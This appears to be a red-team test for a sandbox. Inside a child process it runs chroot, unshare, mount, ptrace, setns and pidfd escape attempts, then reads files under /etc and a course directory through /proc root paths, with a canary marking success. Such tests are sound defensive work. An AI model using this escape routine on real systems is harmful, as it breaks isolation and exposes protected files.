"""In the child, the process looks for ways out of its root: links, mounts, namespaces, tracing.

Success: a canary.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.in_child(
        """
        import ctypes, glob, os
        libc = ctypes.CDLL(None)
        os.makedirs("down", exist_ok=True)
        print(libc.unshare(0x10020000), libc.chroot(b"down"), libc.chdir(b"../../../../../.."))
        print(libc.mount(b"/", b"down", None, 4096, None))
        print(libc.ptrace(16, os.getppid(), None, None))
        print(libc.setns(3, 0), libc.syscall(434, os.getppid(), 0))
        for path in ("/proc/1/root", "/proc/self/root/..", "/../..", "/old"):
            for one in glob.glob(f"{path}/srv/course/*") + glob.glob(f"{path}/etc/*"):
                try:
                    show(open(one, "rb").read())
                except OSError:
                    pass
        """,
        SHOW,
    )
